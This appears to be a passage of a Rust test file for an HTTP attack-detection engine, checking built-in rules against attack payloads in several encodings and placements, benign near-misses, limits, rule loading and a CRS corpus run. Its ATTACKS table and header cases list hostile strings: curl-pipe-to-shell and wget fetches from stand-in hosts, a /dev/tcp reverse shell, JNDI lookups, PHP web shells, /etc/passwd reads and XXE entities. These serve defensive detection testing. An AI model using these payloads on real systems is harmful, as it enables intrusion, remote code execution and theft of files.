@@ -1,0 +1,923 @@
+//! Detection tests: built-in rules per class (attacks that must hit in
+//! several encodings and placements, benign near-misses that must not),
+//! protocol anomalies, limits, rule loading, a CRS corpus measurement and a
+//! no-panic property test.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::sync::OnceLock;
+
+use super::*;
+use crate::capture::Timestamp;
+use crate::http::{Anomalies, Anomaly, Header, Version};
+use crate::reassembly::Direction;
+
+/// A request for tests.
+pub(crate) fn req(method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Request {
+    Request {
+        ts: Timestamp(0),
+        dir: Direction::ToServer,
+        index: 0,
+        method: method.as_bytes().to_vec(),
+        uri: uri.as_bytes().to_vec(),
+        version: Version::Http11,
+        headers: headers
+            .iter()
+            .map(|(n, v)| Header {
+                name: n.as_bytes().to_vec(),
+                value: v.as_bytes().to_vec(),
+            })
+            .collect(),
+        body: body.to_vec(),
+        body_len: body.len() as u64,
+        anomalies: Anomalies::default(),
+        complete: true,
+    }
+}
+
+fn detector() -> &'static Detector {
+    static D: OnceLock<Detector> = OnceLock::new();
+    D.get_or_init(|| Detector::new(&RuleSet::builtin(), DetectLimits::default()))
+}
+
+fn hits_of(r: &Request) -> Vec<Hit> {
+    let mut stats = DetectStats::default();
+    let mut hits = Vec::new();
+    detector().inspect(r, &mut stats, &mut hits);
+    hits
+}
+
+const BROWSER_HEADERS: &[(&str, &str)] = &[
+    ("Host", "shop.example.com"),
+    (
+        "User-Agent",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+    ),
+    (
+        "Accept",
+        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+    ),
+    ("Accept-Language", "en-GB,en;q=0.9,fr;q=0.8"),
+    ("Accept-Encoding", "gzip, deflate, br"),
+    ("Referer", "https://shop.example.com/cart?step=2&ref=mail"),
+    ("Cookie", "_ga=GA1.2.123456789.1700000000; _gid=GA1.2.987; session=eyJhbGciOiJIUzI1NiJ9.e30.abc; theme=dark"),
+    ("Connection", "keep-alive"),
+    ("Cache-Control", "max-age=0"),
+    ("Sec-Fetch-Mode", "navigate"),
+    ("Upgrade-Insecure-Requests", "1"),
+];
+
+/// Places an attack string can be put: query (percent-encoded), form body,
+/// JSON body, cookie.
+fn placements(payload: &str) -> Vec<(String, Request)> {
+    let enc = pct(payload);
+    vec![
+        (
+            "query".into(),
+            req("GET", &format!("/search?q={enc}"), BROWSER_HEADERS, b""),
+        ),
+        (
+            "double-encoded query".into(),
+            req(
+                "GET",
+                &format!("/search?q={}", pct(&enc)),
+                BROWSER_HEADERS,
+                b"",
+            ),
+        ),
+        (
+            "form".into(),
+            req(
+                "POST",
+                "/login",
+                &[("Content-Type", "application/x-www-form-urlencoded")],
+                format!("user=bob&comment={enc}").as_bytes(),
+            ),
+        ),
+        (
+            "json".into(),
+            req(
+                "POST",
+                "/api/v1/items",
+                &[("Content-Type", "application/json")],
+                serde_json::json!({"item": {"tags": ["a", payload]}})
+                    .to_string()
+                    .as_bytes(),
+            ),
+        ),
+        (
+            "cookie".into(),
+            req("GET", "/", &[("Cookie", &format!("a=b; pref={enc}"))], b""),
+        ),
+    ]
+}
+
+fn pct(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+fn html_entities(s: &str) -> String {
+    s.chars().map(|c| format!("&#x{:x};", c as u32)).collect()
+}
+
+/// Attacks per class: each must hit with its class in every placement, and
+/// with HTML-entity encoding in the query.
+const ATTACKS: &[(AttackClass, &[&str])] = &[
+    (
+        AttackClass::Sqli,
+        &[
+            "1' UNION SELECT username, password FROM users--",
+            "-1 union/**/all/**/select 1,2,3",
+            "admin' OR '1'='1",
+            "x\" or \"\"=\"",
+            "1 OR 1=1",
+            "1 AND 2>1",
+            "admin'--",
+            "1; DROP TABLE users",
+            "1' AND SLEEP(5)#",
+            "1;WAITFOR DELAY '0:0:5'--",
+            "1' and extractvalue(1,concat(0x7e,version()))--",
+            "' or exists(select * from information_schema.tables)--",
+            "1 order by 5--",
+            "SELECT * FROM users",
+            "1/*!50000union*/select 1",
+            "1 and pg_sleep(10)",
+        ],
+    ),
+    (
+        AttackClass::Xss,
+        &[
+            "<script>alert(1)</script>",
+            "<ScRiPt src=//evil.example/x.js>",
+            "<img src=x onerror=alert(document.cookie)>",
+            "<svg/onload=confirm(1)>",
+            "\"><iframe src=javascript:alert(1)>",
+            "javascript:alert(1)",
+            "java\tscript:prompt(1)",
+            "' onmouseover='alert(1)",
+            "<body onload=eval(atob('YWxlcnQoMSk='))>",
+            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
+            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+            "</title><script>fetch('//x')</script>",
+        ],
+    ),
+    (
+        AttackClass::Rce,
+        &[
+            "; cat /etc/passwd",
+            "| id",
+            "127.0.0.1 && whoami",
+            "`uname -a`",
+            "$(curl http://evil.example/x.sh | sh)",
+            "x;wget${IFS}http://1.2.3.4/a",
+            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "| powershell -enc SQBFAFgA",
+            "& cmd.exe /c dir",
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}ndi:${lower:r}mi://x/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
+            "<?php system($_GET['c']); ?>",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "java.lang.Runtime.getRuntime().exec('id')",
+            "new java.lang.ProcessBuilder({'id'}).start()",
+            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
+            "__import__('os').system('id')",
+            "() { :; }; /bin/bash -c 'id'",
+            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+            "require('child_process').exec('id')",
+        ],
+    ),
+    (
+        AttackClass::Ptrav,
+        &[
+            "../../../../etc/passwd",
+            "..\\..\\..\\windows\\win.ini",
+            "....//....//etc/hosts",
+            "/proc/self/environ",
+            "..%2f..%2fetc%2fshadow",
+            "file=C:\\Windows\\System32\\drivers\\etc\\hosts",
+            "/var/www/../../root/.bash_history",
+        ],
+    ),
+    (
+        AttackClass::Ssrf,
+        &[
+            "http://169.254.169.254/latest/meta-data/",
+            "http://127.0.0.1:8080/admin",
+            "gopher://localhost:6379/_INFO",
+            "http://[::1]/",
+            "http://0x7f000001/",
+        ],
+    ),
+    (
+        AttackClass::Ssti,
+        &[
+            "{{7*7}}",
+            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+            "${7*7}",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+            "{% import os %}{{ os.system('id') }}",
+        ],
+    ),
+    (
+        AttackClass::Xxe,
+        &[
+            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+            "<!ENTITY % remote SYSTEM \"http://evil.example/x.dtd\">",
+        ],
+    ),
+    (
+        AttackClass::Crlf,
+        &["x\r\nSet-Cookie: admin=1", "/\r\nLocation: http://evil.example"],
+    ),
+    (AttackClass::Ssi, &["<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/etc/passwd\"-->"]),
+    (AttackClass::Ldapi, &["*)(uid=*))(|(uid=*", "admin)(|(password=*)"]),
+    (
+        AttackClass::MailInjection,
+        &["me@example.com\r\nBcc: victim@example.org"],
+    ),
+    (AttackClass::Rfi, &["http://203.0.113.5/shell.txt?", "https://evil.example/x.php?"]),
+];
+
+#[test]
+fn builtin_rules_are_valid() {
+    let mut seen = HashMap::new();
+    let mut total = 0;
+    for (name, src) in builtin::FILES {
+        let (rules, errors) = rule::parse_source(src, Path::new(name), &mut seen);
+        assert!(errors.is_empty(), "{name}: {errors:#?}");
+        total += rules.len();
+    }
+    assert_eq!(RuleSet::builtin().len(), total);
+    assert!(total >= 50, "{total}");
+    // Rules without literals run on every value: keep them few.
+    let always = detector().always_evaluated_rules();
+    assert!(always <= 3, "{always} always-evaluated rules");
+}
+
+#[test]
+fn builtin_folder_matches_embedded() {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
+    let loaded = RuleSet::load(&dir).map_err(|e| format!("{e:?}"));
+    assert_eq!(loaded.map(|s| s.len()), Ok(RuleSet::builtin().len()));
+}
+
+#[test]
+fn attacks_hit_in_every_placement() {
+    let mut failures = Vec::new();
+    for (class, payloads) in ATTACKS {
+        for p in *payloads {
+            let mut cases = placements(p);
+            cases.push((
+                "html entities".into(),
+                req("GET", &format!("/q?x={}", pct(&html_entities(p))), &[], b""),
+            ));
+            for (place, r) in cases {
+                let hits = hits_of(&r);
+                if !hits.iter().any(|h| h.class == *class) {
+                    failures.push(format!("{} {place}: {p:?} -> {hits:?}", class.as_str()));
+                }
+            }
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} misses:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn path_and_header_placements() {
+    let cases: &[(AttackClass, Request)] = &[
+        (AttackClass::Ptrav, req("GET", "/static/..%252f..%252f..%252fetc/passwd", &[], b"")),
+        (AttackClass::Ptrav, req("GET", "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue", &[], b"")),
+        (AttackClass::Ptrav, req("GET", "/download?file=%u002e%u002e%u2215etc", &[], b"")),
+        (AttackClass::Sqli, req("GET", "/item/1'%20or%20'1'='1", &[], b"")),
+        (AttackClass::Xss, req("GET", "/page/<script>alert(1)</script>", &[], b"")),
+        (AttackClass::Rce, req("GET", "/", &[("User-Agent", "${jndi:ldap://x.example/a}")], b"")),
+        (AttackClass::Rce, req("GET", "/", &[("X-Api-Version", "${jndi:rmi://x/a}")], b"")),
+        (AttackClass::Rce, req("GET", "/cgi-bin/x", &[("Referer", "() { :; }; echo; /bin/id")], b"")),
+        (AttackClass::Sqli, req("GET", "/", &[("User-Agent", "x' and sleep(5)-- -")], b"")),
+        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b"")),
+        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")], b"")),
+        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")], b"")),
+        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Mozilla/5.0 zgrab/0.x")], b"")),
+        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Fuzz Faster U Fool v2.1.0")], b"")),
+        (AttackClass::Scanner, req("GET", "/", &[("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")], b"")),
+        (AttackClass::Nosqli, req("GET", "/login?user=admin&password[$ne]=x", &[], b"")),
+        (
+            AttackClass::Nosqli,
+            req("POST", "/login", &[("Content-Type", "application/json")], br#"{"user":"admin","password":{"$gt":""}}"#),
+        ),
+        (
+            AttackClass::Rce,
+            req(
+                "POST",
+                "/upload",
+                &[("Content-Type", "multipart/form-data; boundary=b")],
+                b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php eval($_POST[1]);\r\n--b--\r\n",
+            ),
+        ),
+        (
+            AttackClass::Xxe,
+            req("POST", "/soap", &[("Content-Type", "text/xml")], b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
+        ),
+        (AttackClass::Xss, req("GET", r"/?cb=\u003cscript\u003ealert(1)", &[], b"")),
+        (AttackClass::Sqli, req("GET", "/?id=1%2520union%2520select%25201", &[], b"")),
+        (AttackClass::Sqli, req("GET", "/?id=1+un%00ion+sel%00ect+1", &[], b"")),
+    ];
+    for (class, r) in cases {
+        let hits = hits_of(r);
+        assert!(
+            hits.iter().any(|h| h.class == *class),
+            "{} not found in {:?}: {hits:?}",
+            class.as_str(),
+            String::from_utf8_lossy(&r.uri)
+        );
+    }
+}
+
+#[test]
+fn benign_requests_do_not_hit() {
+    let form = |b: &str| {
+        req(
+            "POST",
+            "/submit",
+            &[("Content-Type", "application/x-www-form-urlencoded")],
+            b.as_bytes(),
+        )
+    };
+    let json = |b: &str| {
+        req(
+            "POST",
+            "/api/orders",
+            &[("Content-Type", "application/json")],
+            b.as_bytes(),
+        )
+    };
+    let cases = vec![
+        req("GET", "/", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=select+a+plan&sort=price", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=drop+shipping+suppliers", BROWSER_HEADERS, b""),
+        req("GET", "/people?name=O%27Brien&city=Dublin", BROWSER_HEADERS, b""),
+        req("GET", "/directions?to=union+station&from=grand+central", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=and+or+not+operators", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=Tom+%26+Jerry%3B+the+movie", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=how+do+I+write+a+script+for+my+play", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=R%26D+budget+2024", BROWSER_HEADERS, b""),
+        req("GET", "/redirect?url=https%3A%2F%2Fwww.example.org%2Fpage%3Fa%3D1", BROWSER_HEADERS, b""),
+        req("GET", "/img/logo.png?v=1.2.3", BROWSER_HEADERS, b""),
+        req("GET", "/docs/v2/getting-started/index.html#install", BROWSER_HEADERS, b""),
+        req("GET", "/api/items?id=42&fields=name,price&page=2&per_page=50", BROWSER_HEADERS, b""),
+        req("GET", "/calendar?date=2024-01-05T10:00:00Z&tz=Europe%2FParis", BROWSER_HEADERS, b""),
+        req("GET", "/", &[("User-Agent", "curl/8.4.0"), ("Accept", "*/*")], b""),
+        req("GET", "/", &[("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1")], b""),
+        req("GET", "/", &[("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0")], b""),
+        req("GET", "/", &[("If-None-Match", "W/\"5e15153d-120f\""), ("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.sig")], b""),
+        form("name=Mary+O%27Neil&email=mary%40example.com&message=Please+select+the+blue+one+from+the+catalogue.+Thanks%21"),
+        form("comment=I+think+1+%2B+1+%3D+2+and+that%27s+it"),
+        form("q=union+jack+flag&category=flags"),
+        form("note=Meeting+at+10%3A30%3B+bring+the+slides"),
+        form("title=Scripts+and+screenplays&body=Writing+a+good+script+takes+time."),
+        form("password=P%40ssw0rd%21%23&remember=on"),
+        form("upload=C%3A%5Cfakepath%5Cphoto.jpg&dir=D%3A%5CUsers%5Cname%5CDocuments"),
+        form("price=%245+%28incl.+VAT%29&total=%24%7Bamount%7D"),
+        form("msg=It+costs+%24amount+%28approx%29+and+%24tax+%28est.%29"),
+        form("comment=Don%27t+worry%2C+it%27s+fine.+See+you+at+5+o%27clock"),
+        form("email=john.doe%2Bnews%40example.com&subscribe=1"),
+        form("bio=I+work+with+C%2B%2B+templates+like+std%3A%3Avector%3Cint%3E+and+Node.js"),
+        form("q=how+to+use+%24_GET+in+php&lang=en"),
+        form("q=ping+pong+table&q2=find+my+phone&q3=cat+videos&q4=ls+command"),
+        form("address=12+Main+St.%2C+Apt+%234%2C+Springfield&phone=%2B1+%28555%29+123-4567"),
+        form("query=50%25+off+%7C+free+shipping+%26+returns"),
+        json(r#"{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"x","type":"object"}"#),
+        json(r##"{"markdown":"# Title\n\nSome *bold* text and a [link](https://example.com/a?b=c).\n\n- item 1\n- item 2"}"##),
+        req("GET", "/search?q=union+select+committee+report", BROWSER_HEADERS, b""),
+        req("GET", "/wiki/Special:Search?search=%22or%22+operator+in+logic", BROWSER_HEADERS, b""),
+        req("GET", "/", &[("Referer", "https://www.google.com/search?q=best+pizza+near+me&oq=best+pizza&aqs=chrome..69i57j0l5.3456j0j7&sourceid=chrome&ie=UTF-8")], b""),
+        form("text=He+said+%22hello%22+and+left.+Then%3A+%27bye%27"),
+        json(r#"{"order":{"id":123,"items":[{"sku":"A-1","qty":2}],"note":"leave at the door, ring twice"},"coupon":null}"#),
+        json(r#"{"query":"select a plan","filters":{"price":{"min":10,"max":20}},"url":"https://example.com/a?b=c"}"#),
+        json(r#"{"name":"O'Brien","bio":"Loves union station & drop shipping"}"#),
+        req(
+            "POST",
+            "/upload",
+            &[("Content-Type", "multipart/form-data; boundary=----x")],
+            b"------x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"holiday photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIF\r\n------x--\r\n",
+        ),
+        req("GET", "/", &[("Cookie", "_ga=GA1.2.123; _fbp=fb.1.1700000000000.123456789; consent=yes%2Cno; cart=%7B%22n%22%3A2%7D")], b""),
+        req("GET", "/blog/2024/05/how-to-use-css-grid", BROWSER_HEADERS, b""),
+        req("GET", "/wiki/Cross-site_scripting", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=onion+rings+recipe", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=%3Cb%3Ebold%3C%2Fb%3E", BROWSER_HEADERS, b""),
+        req("GET", "/files?path=docs%2Freports%2F2024%2Fq1.pdf", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=email+me+at+john%40example.com", BROWSER_HEADERS, b""),
+        req("GET", "/search?q=what+is+1%3D1", BROWSER_HEADERS, b""),
+    ];
+    let mut failures = Vec::new();
+    for r in &cases {
+        let hits = hits_of(r);
+        if !hits.is_empty() {
+            failures.push(format!(
+                "{} {:?}: {hits:?}",
+                String::from_utf8_lossy(&r.uri),
+                String::from_utf8_lossy(&r.body)
+            ));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "false positives:\n{}",
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn hit_fields_location_and_matched() {
+    let r = req("GET", "/x?id=1%27%20UNION%20SELECT%201--&b=ok", &[], b"");
+    let hits = hits_of(&r);
+    let h = hits.iter().find(|h| &*h.rule_id == "sqli-union-select");
+    let h = h.map(|h| {
+        (
+            h.class,
+            h.severity,
+            h.location.as_str(),
+            h.matched.as_slice(),
+        )
+    });
+    assert_eq!(
+        h,
+        Some((
+            AttackClass::Sqli,
+            Severity::High,
+            "query:id",
+            &b"UNION SELECT 1"[..]
+        ))
+    );
+    // One hit per (rule, location), even with repeated arguments.
+    let r = req("GET", "/?a=<script>&a=<script>x&b=<script>", &[], b"");
+    let n = hits_of(&r)
+        .iter()
+        .filter(|h| &*h.rule_id == "xss-script-tag" && h.location.starts_with("query:"))
+        .count();
+    assert_eq!(n, 2);
+    // Matched text is bounded.
+    let long = format!("/?a=%3Cscript%20{}%3E", "a".repeat(1000));
+    for h in hits_of(&req("GET", &long, &[], b"")) {
+        assert!(h.matched.len() <= MAX_MATCHED_BYTES);
+    }
+}
+
+#[test]
+fn protocol_anomalies_become_hits() {
+    let mut r = req("GET", "/", &[], b"");
+    r.anomalies.set(Anomaly::ClAndTe);
+    r.anomalies.set(Anomaly::Gap);
+    r.anomalies.set(Anomaly::BareLf);
+    r.anomalies.set(Anomaly::MissingHost);
+    r.anomalies.set(Anomaly::InvalidRequestLine);
+    let hits = hits_of(&r);
+    let ids: Vec<(&str, Severity, &str)> = hits
+        .iter()
+        .map(|h| (&*h.rule_id, h.severity, h.location.as_str()))
+        .collect();
+    assert_eq!(
+        ids,
+        vec![
+            ("protocol-cl_and_te", Severity::High, "request"),
+            ("protocol-invalid_request_line", Severity::Medium, "request"),
+        ]
+    );
+    assert!(hits.iter().all(|h| h.class == AttackClass::Protocol));
+}
+
+#[test]
+fn hit_limit_is_enforced_and_counted() {
+    let limits = DetectLimits {
+        max_hits_per_request: 2,
+        ..DetectLimits::default()
+    };
+    let d = Detector::new(&RuleSet::builtin(), limits);
+    let r = req(
+        "GET",
+        "/?a=<script>&b=<script>&c=<script>&d=1+union+select+1",
+        &[],
+        b"",
+    );
+    let mut stats = DetectStats::default();
+    let mut hits = Vec::new();
+    d.inspect(&r, &mut stats, &mut hits);
+    assert_eq!(hits.len(), 2);
+    assert_eq!(stats.hit_limit_hits, 1);
+    assert_eq!(stats.requests, 1);
+    assert!(stats.points > 0 && stats.regex_evaluations > 0);
+}
+
+#[test]
+fn decode_depth_limit_is_counted() {
+    let limits = DetectLimits {
+        max_decode_depth: 1,
+        ..DetectLimits::default()
+    };
+    let d = Detector::new(&RuleSet::builtin(), limits);
+    // Triple-encoded '<': the query split decodes once, one layer more is allowed.
+    let r = req("GET", "/?a=%25253Cscript%25253E", &[], b"");
+    let mut stats = DetectStats::default();
+    let mut hits = Vec::new();
+    d.inspect(&r, &mut stats, &mut hits);
+    assert!(hits.is_empty(), "{hits:?}");
+    assert!(stats.decode_depth_hits >= 1);
+    // The default depth sees through it.
+    assert!(!hits_of(&r).is_empty());
+}
+
+#[test]
+fn custom_rules_targets_and_scratch() {
+    let src = r#"
+[[rule]]
+id = "t-header"
+class = "scanner"
+severity = "low"
+targets = ["header:x-probe"]
+pattern = 'probe'
+description = "d"
+
+[[rule]]
+id = "t-method"
+class = "protocol"
+severity = "low"
+targets = ["method"]
+pattern = '^(?:TRACE|TRACK)$'
+description = "d"
+"#;
+    let set = RuleSet::parse(src, Path::new("x.toml")).map_err(|e| format!("{e:?}"));
+    let set = match set {
+        Ok(s) => s,
+        Err(e) => panic!("{e}"),
+    };
+    assert_eq!(set.rules().len(), 2);
+    let d = Detector::new(&set, DetectLimits::default());
+    let mut scratch = Scratch::default();
+    let mut stats = DetectStats::default();
+    let mut hits = Vec::new();
+    let r = req(
+        "TRACE",
+        "/probe",
+        &[("X-Probe", "probe"), ("X-Other", "probe")],
+        b"",
+    );
+    d.inspect_with(&r, &mut scratch, &mut stats, &mut hits);
+    let got: Vec<(&str, &str)> = hits
+        .iter()
+        .map(|h| (&*h.rule_id, h.location.as_str()))
+        .collect();
+    assert_eq!(
+        got,
+        vec![("t-method", "method"), ("t-header", "header:X-Probe")]
+    );
+}
+
+#[test]
+fn load_reports_all_errors_of_all_files() {
+    let dir = match tempfile::tempdir() {
+        Ok(d) => d,
+        Err(e) => panic!("{e}"),
+    };
+    let good = "[[rule]]\nid = \"a\"\nclass = \"xss\"\nseverity = \"low\"\ntargets = [\"query\"]\npattern = 'x'\ndescription = \"d\"\n";
+    let bad = good.replace("\"low\"", "\"lo\"").replace("'x'", "'('");
+    std::fs::write(dir.path().join("a.toml"), good).ok();
+    std::fs::write(dir.path().join("b.toml"), &bad).ok();
+    std::fs::write(dir.path().join("ignored.txt"), "junk").ok();
+    let errs = match RuleSet::load(dir.path()) {
+        Ok(_) => panic!("expected errors"),
+        Err(e) => e,
+    };
+    let shown: Vec<String> = errs
+        .iter()
+        .map(|e| {
+            assert!(e.to_string().contains(&e.message));
+            let file = e.path.file_name().map(|f| f.to_string_lossy().into_owned());
+            format!(
+                "{}:{}:{}: {}",
+                file.unwrap_or_default(),
+                e.line,
+                e.col,
+                e.message
+            )
+        })
+        .collect();
+    assert_eq!(shown.len(), 3, "{shown:?}");
+    assert!(
+        shown[0].starts_with("b.toml:2:6: duplicate id `a`"),
+        "{shown:?}"
+    );
+    assert!(
+        shown[1].starts_with("b.toml:4:12: unknown severity"),
+        "{shown:?}"
+    );
+    assert!(
+        shown[2].starts_with("b.toml:6:11: pattern does not compile"),
+        "{shown:?}"
+    );
+    assert_eq!(
+        RuleSet::load(&dir.path().join("a.toml"))
+            .map(|s| s.len())
+            .ok(),
+        Some(1)
+    );
+    assert!(RuleSet::load(&dir.path().join("missing.toml")).is_err());
+}
+
+#[test]
+fn detector_is_send_sync() {
+    fn check<T: Send + Sync>() {}
+    check::<Detector>();
+    check::<RuleSet>();
+}
+
+// ---- CRS corpus measurement ------------------------------------------------
+
+/// Raw request bytes → `Request` (test-only; the real parser is `http`).
+fn parse_raw(raw: &[u8]) -> Option<Request> {
+    let head_end = memchr::memmem::find(raw, b"\r\n\r\n")
+        .map(|i| (i, i + 4))
+        .or_else(|| memchr::memmem::find(raw, b"\n\n").map(|i| (i, i + 2)))?;
+    let head = raw.get(..head_end.0)?;
+    let rest = raw.get(head_end.1..)?;
+    let mut lines = head
+        .split(|&b| b == b'\n')
+        .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
+    let line = lines.next()?;
+    let mut hs = [httparse::EMPTY_HEADER; 128];
+    let mut parsed = httparse::Request::new(&mut hs);
+    let (method, uri, headers): (Vec<u8>, Vec<u8>, Vec<Header>) = match parsed.parse(raw) {
+        Ok(httparse::Status::Complete(_)) => (
+            parsed.method?.as_bytes().to_vec(),
+            parsed.path?.as_bytes().to_vec(),
+            parsed
+                .headers
+                .iter()
+                .map(|h| Header {
+                    name: h.name.as_bytes().to_vec(),
+                    value: h.value.to_vec(),
+                })
+                .collect(),
+        ),
+        // httparse is strict (non-token methods, odd targets): fall back
+        // to splitting the lines ourselves.
+        _ => {
+            let sp1 = memchr::memchr(b' ', line)?;
+            let sp2 = memchr::memrchr(b' ', line)?;
+            let method = line.get(..sp1)?.to_vec();
+            let uri = if sp2 > sp1 {
+                line.get(sp1 + 1..sp2)?
+            } else {
+                line.get(sp1 + 1..)?
+            };
+            let headers = lines
+                .filter_map(|l| {
+                    let c = memchr::memchr(b':', l)?;
+                    Some(Header {
+                        name: l.get(..c)?.trim_ascii().to_vec(),
+                        value: l.get(c + 1..)?.trim_ascii().to_vec(),
+                    })
+                })
+                .collect();
+            (method, uri.to_vec(), headers)
+        }
+    };
+    let find = |n: &str| {
+        headers
+            .iter()
+            .find(|h| h.name.eq_ignore_ascii_case(n.as_bytes()))
+            .map(|h| h.value.clone())
+    };
+    let body = if find("transfer-encoding")
+        .is_some_and(|v| v.to_ascii_lowercase().ends_with(b"chunked"))
+    {
+        dechunk(rest)
+    } else if let Some(cl) = find("content-length")
+        .and_then(|v| std::str::from_utf8(&v).ok()?.trim().parse::<usize>().ok())
+    {
+        rest.get(..cl.min(rest.len()))?.to_vec()
+    } else {
+        rest.to_vec()
+    };
+    let mut r = req("GET", "/", &[], &body);
+    r.method = method;
+    r.uri = uri;
+    r.headers = headers;
+    Some(r)
+}
+
+fn dechunk(mut data: &[u8]) -> Vec<u8> {
+    let mut out = Vec::new();
+    while let Some(eol) = memchr::memmem::find(data, b"\r\n") {
+        let size_line = data.get(..eol).unwrap_or_default();
+        let size_hex = size_line.split(|&b| b == b';').next().unwrap_or_default();
+        let Some(size) = std::str::from_utf8(size_hex)
+            .ok()
+            .and_then(|s| usize::from_str_radix(s.trim(), 16).ok())
+        else {
+            break;
+        };
+        if size == 0 {
+            break;
+        }
+        let Some(chunk) = data.get(eol + 2..eol + 2 + size) else {
+            break;
+        };
+        out.extend_from_slice(chunk);
+        data = data.get(eol + 2 + size + 2..).unwrap_or_default();
+    }
+    out
+}
+
+/// Standard base64 (test-only; avoids a dependency).
+fn b64(s: &str) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(s.len() / 4 * 3);
+    let (mut acc, mut bits) = (0u32, 0u32);
+    for c in s.bytes() {
+        let v = match c {
+            b'A'..=b'Z' => c - b'A',
+            b'a'..=b'z' => c - b'a' + 26,
+            b'0'..=b'9' => c - b'0' + 52,
+            b'+' => 62,
+            b'/' => 63,
+            b'=' => break,
+            _ => return None,
+        };
+        acc = (acc << 6) | u32::from(v);
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push((acc >> bits) as u8);
+            acc &= (1 << bits) - 1;
+        }
+    }
+    Some(out)
+}
+
+#[test]
+fn crs_corpus_measurement() {
+    let path = Path::new("/work/shared/corpus/crs/tests.jsonl");
+    let Ok(text) = std::fs::read_to_string(path) else {
+        eprintln!(
+            "CRS corpus not present at {}; skipping measurement",
+            path.display()
+        );
+        return;
+    };
+    // category -> (detect total, detected, clean total, clean flagged)
+    let mut by_cat: BTreeMap<String, [u32; 4]> = BTreeMap::new();
+    let mut stats = DetectStats::default();
+    let mut hits = Vec::new();
+    let mut rule_counts: BTreeMap<String, u32> = BTreeMap::new();
+    // Set SPECULA_CRS_DUMP=FILE to get one line per case (id, expect, category, rules).
+    let started = std::time::Instant::now();
+    let mut dump = std::env::var_os("SPECULA_CRS_DUMP").and_then(|p| std::fs::File::create(p).ok());
+    for line in text.lines() {
+        let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
+            continue;
+        };
+        if v["phase"] != "request" {
+            continue;
+        }
+        let Some(raw) = v["raw"].as_str().and_then(b64) else {
+            continue;
+        };
+        let Some(r) = parse_raw(&raw) else { continue };
+        hits.clear();
+        detector().inspect(&r, &mut stats, &mut hits);
+        let cat = v["category"].as_str().unwrap_or("?").to_string();
+        let e = by_cat.entry(cat).or_default();
+        let hit = !hits.is_empty();
+        if let Some(f) = dump.as_mut() {
+            use std::io::Write as _;
+            let ids: Vec<&str> = hits.iter().map(|h| &*h.rule_id).collect();
+            let _ = writeln!(
+                f,
+                "{}\t{}\t{}\t{}",
+                v["id"].as_str().unwrap_or("?"),
+                v["expect"].as_str().unwrap_or("?"),
+                v["category"].as_str().unwrap_or("?"),
+                ids.join(",")
+            );
+        }
+        if v["expect"] == "detect" {
+            e[0] += 1;
+            e[1] += u32::from(hit);
+        } else {
+            e[2] += 1;
+            e[3] += u32::from(hit);
+            for h in &hits {
